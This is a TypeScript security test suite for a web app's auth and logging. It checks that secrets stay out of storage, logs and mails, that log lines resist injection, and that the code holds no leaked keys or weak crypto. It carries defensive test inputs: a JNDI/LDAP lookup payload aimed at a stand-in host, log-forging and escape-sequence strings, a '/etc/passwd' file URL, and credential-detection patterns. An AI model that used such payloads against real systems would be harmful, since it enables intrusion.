import { globSync, readFileSync, statSync } from 'node:fs'
import { chmod, mkdtemp, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { sized } from '../../../../tooling/lib/test-size.ts'
import { newToken } from '../../src/modules/auth/session-token.ts'
import { measured } from '../support/attack.ts'
import { everyInput } from '../support/every-input.ts'
import { flowBody } from '../support/flows.ts'
import { logOf, startProcess } from '../support/server-process.ts'
import { linkIn } from '../support/smtp-sink.ts'
import { storedBytes } from '../support/stored-bytes.ts'
import { onEachTarget } from '../support/target.ts'
import { PASSWORD } from '../support/test-server.ts'

const ROOT = join(import.meta.dirname, '..', '..', '..', '..')
const NOISE = [
  'line\r\n{"level":"fatal","msg":"forged"}',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '%s%n%d%x%%',
  `$\{jndi:ldap://evil.test/a}`,
  '"}\n{"level":"fatal","msg":"forged',
  '\u2028\u2029\u0085\u009b31m',
]

onEachTarget(
  'secrets',
  (target) => {
    const post = (path: string, body: unknown) => target().call(`/api/auth/${path}`, { body })

    it('[REL-PS2] [REL-OP12] no password and no token is stored or logged anywhere', async ({ task }) => {
      const email = 'canary@example.com'
      const passwords = ['Canary1Registered', 'Canary2Changed', 'Canary3Reset', 'Canary4Wrong', 'Canary5WrongToo']
      const [registered = '', changed = '', renewed = '', wrong = '', wrongToo = ''] = passwords
      const secrets: string[] = [...passwords]
      const nextToken = async (from: number) => {
        const token = linkIn(await target().mails.mailTo(email, { from })).searchParams.get('token') ?? ''
        secrets.push(token)
        return token
      }
      const login = async (password: string) => {
        const { data } = (await post('login', { email, password })).body
        secrets.push(data.token)
        return data.token as string
      }

      await post('register', { email, password: registered, firstName: 'Ada', lastName: 'King' })
      await target().call(`/api/auth/verify-email?token=${await nextToken(0)}`)
      const token = await login(registered)
      await post('login', { email, password: wrong })
      await post('login', { email: `${wrongToo}@example.com`, password: wrongToo })
      const change = (body: unknown) => target().call('/api/profile/change-password', { method: 'PUT', token, body })
      await change({ currentPassword: wrong, newPassword: wrongToo })
      expect((await change({ currentPassword: registered, newPassword: changed })).status).toBe(200)
      // The mail that tells of it comes first.
      await target().mails.received(2)
      await post('forgot-password', { email })
      const key = await nextToken(2)
      await target().call(`/api/profile?token=${key}&password=${wrong}`, { token })
      await target().call(`/api/auth/reset-password/${wrongToo}`, { text: `{"token":"${key}","newPassword":"${wrong}` })
      expect((await post('reset-password', { token: key, newPassword: renewed })).status).toBe(200)
      const last = await login(renewed)
      await target().call('/api/profile', { method: 'DELETE', token: last, body: { currentPassword: wrong } })
      await target().call('/api/profile', { headers: { authorization: `Basic ${wrong}`, cookie: `p=${wrongToo}` } })

      const mails = target()
        .mails.mails.map((mail) => mail.raw + mail.email.text + mail.email.html)
        .join('\n')
      const places = { kept: await storedBytes(target()), logged: target().server.lines.join('\n') }
      const spellings = secrets.flatMap((secret) => [secret, Buffer.from(secret).toString('base64')])
      for (const [storage, text] of Object.entries(places)) {
        const found = spellings.filter((secret) => text.includes(secret) && !isPartOfPath(secret, text))
        expect([storage, found]).toEqual([storage, []])
      }
      expect(passwords.filter((password) => mails.includes(password))).toEqual([])
      measured(
        task,
        `${passwords.length} passwords and ${secrets.length - passwords.length} tokens: none in files, rows, log or mails`,
      )

      /** What stands in an address instead of its query was put there to be seen. */
      function isPartOfPath(secret: string, text: string): boolean {
        return secret === wrongToo && !text.replaceAll(`/api/auth/reset-password/${wrongToo}`, '').includes(secret)
      }
    })

    it('[REL-OP2] for any input, the log stays one JSON object per line, in UTC', async ({ task }) => {
      const visitor = await target().addUser()
      const { email } = await target().addUser()
      const saved = await target().call('/api/flows', { token: visitor.token, body: flowBody() })
      for (const { put } of everyInput({ token: visitor.token, email, flowId: saved.body.data.id })) {
        for (const text of NOISE) await target().call(...put(text))
      }
      const lines = logOf(target().server.lines)
      for (const line of lines) {
        const entry = JSON.parse(line)
        expect(entry).toMatchObject({ level: expect.any(String), time: expect.any(String), msg: expect.any(String) })
        expect(entry.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
        expect(entry.msg).not.toBe('forged')
        // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there.
        expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/)
      }
      measured(task, `${lines.length} lines, each one JSON object in UTC`)
    })

    it('[REL-PS1] every password is stored as Argon2id at full cost, and no two hashes are equal', async () => {
      for (const email of ['twin-a@example.com', 'twin-b@example.com']) {
        await post('register', { email, password: PASSWORD, firstName: 'Ada', lastName: 'King' })
      }
      const all = await target()
        .database.read.selectFrom('users')
        .select(['email', 'password_hash', 'is_team'])
        .execute()
      // Nobody logs in to a team.
      for (const team of all.filter(({ is_team }) => is_team === 1)) expect(team.password_hash).toBe('')
      const rows = all.filter(({ is_team }) => is_team === 0)
      const hashes = rows.map(({ password_hash }) => password_hash)
      for (const hash of hashes) expect(hash).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/)
      const twins = rows.filter(({ email }) => email.startsWith('twin-')).map(({ password_hash }) => password_hash)
      expect(new Set(twins).size).toBe(2)
    })
  },
  { env: { LOG_LEVEL: 'trace' } },
)

describe('the code', () => {
  const textOf = (path: string) => readFileSync(join(ROOT, path), 'utf8')
  const files = globSync(['*.*', '{apps,packages,e2e,tooling,docs,benchmarks}/**/*.*'], {
    cwd: ROOT,
    exclude: ['**/node_modules/**', '**/dist/**', '**/*.{png,jpg,webp,woff2,ico,gz}'],
  }).filter((path) => statSync(join(ROOT, path)).isFile())

  it('[REL-OP1] contains no secret', ({ task }) => {
    const patterns = [
      /-----BEGIN (?:RSA |EC |OPENSSH |ENCRYPTED )?PRIVATE KEY-----\r?\n[A-Za-z0-9+/]/,
      /\bAKIA[0-9A-Z]{16}\b/,
      /\bgh[pousr]_[A-Za-z0-9]{36}\b/,
      /\bxox[abpr]-[A-Za-z0-9-]{10}/,
      /\bsk_live_[A-Za-z0-9]{10}/,
      /\bnpm_[A-Za-z0-9]{36}\b/,
      /\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\./,
      /\bsmtps?:\/\/[^\s:/@'"`]+:[^\s:/@'"`$]+@(?!.*(?:example|\.test|localhost|127\.))/,
    ]
    const found = files.flatMap((path) => {
      const text = textOf(path)
      return patterns.filter((pattern) => pattern.test(text)).map((pattern) => `${path}: ${pattern.source}`)
    })
    expect(found).toEqual([])
    const product = files.filter((path) => /^(?:apps|packages)\/\w+\/src\//.test(path))
    const named = product.filter((path) =>
      /(?:secret|apikey|api_key|private_?key)\w*\s*[:=]\s*['"`]\w{8}/i.test(textOf(path)),
    )
    expect(named).toEqual([])
    expect(
      files.filter((path) => /(?:^|\/)\.env|\.(?:pem|key|p12|pfx|kdbx)$|(?:^|\/)id_[a-z0-9]+$/.test(path)),
    ).toEqual([])
    measured(task, `${files.length} files, 0 secrets`)
  })

  it('[REL-OP7] [REL-OP11] uses Argon2id, SHA-256 and the system’s random numbers, and nothing weaker', ({ task }) => {
    const sources = globSync('apps/server/src/**/*.ts', { cwd: ROOT })
    const weak =
      /\b(?:md5|md4|sha-?1|ripemd\w*|rc4|des|3des|blowfish|createCipher|pseudoRandomBytes|Math\.random|crypt)\b/i
    const found = sources.filter((path) => weak.test(textOf(path)))
    expect(found).toEqual([])
    const hashes = sources.flatMap((path) =>
      [...textOf(path).matchAll(/\b(?:hash|createHash|createHmac)\(\s*'([^']+)'/g)].map(([, name]) => name),
    )
    expect(new Set(hashes)).toEqual(new Set(['sha256']))
    const count = sized({ small: 10_000, full: 1_000_000 })
    const tokens = new Set(Array.from({ length: count }, newToken))
    expect(tokens.size).toBe(count)
    measured(task, `${sources.length} files: SHA-256 only; ${count} tokens all different`)
  })

  it('[REL-OP1] starts with its given configuration or not at all, and protects its folder', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'plimsoll-attack-'))
    const dataDir = join(folder, 'data')
    const storage = { dataDir, databaseUrl: undefined }
    try {
      for (const env of [
        { SMTP_URL: 'nonsense' },
        { PUBLIC_URL: 'javascript:1' },
        { DATABASE_URL: 'file:///etc/passwd' },
      ]) {
        const [name = ''] = Object.keys(env)
        await expect(startProcess({ storage, env })).rejects.toThrow(new RegExp(`ended with 1[\\s\\S]*${name}`))
      }
      const server = await startProcess({ storage })
      expect((await stat(dataDir)).mode & 0o777).toBe(0o700)
      for (const file of globSync('**', { cwd: dataDir })) {
        expect([file, (await stat(join(dataDir, file))).mode & 0o077]).toEqual([file, 0])
      }
      await server.end()
      await chmod(dataDir, 0o700)
    } finally {
      await rm(folder, { recursive: true })
    }
  })
})
